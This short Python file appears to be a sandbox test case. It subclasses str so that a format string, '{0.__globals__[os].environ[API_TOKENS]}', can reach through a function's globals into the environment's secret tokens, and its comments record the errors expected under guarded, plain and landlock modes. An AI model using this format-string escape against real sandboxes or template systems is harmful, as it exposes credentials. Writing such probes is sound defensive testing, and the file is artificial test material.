# super() of a string reads format unguarded.
# guarded: error AttributeError: the attribute '__globals__'
# plain: error KeyError: 'API_TOKENS'
# landlock: error KeyError: 'API_TOKENS'
import logging


class Text(str):
    def leak(self, *values):
        return super().format(*values)


Text("{0.__globals__[os].environ[API_TOKENS]}").leak(logging.getLogger)
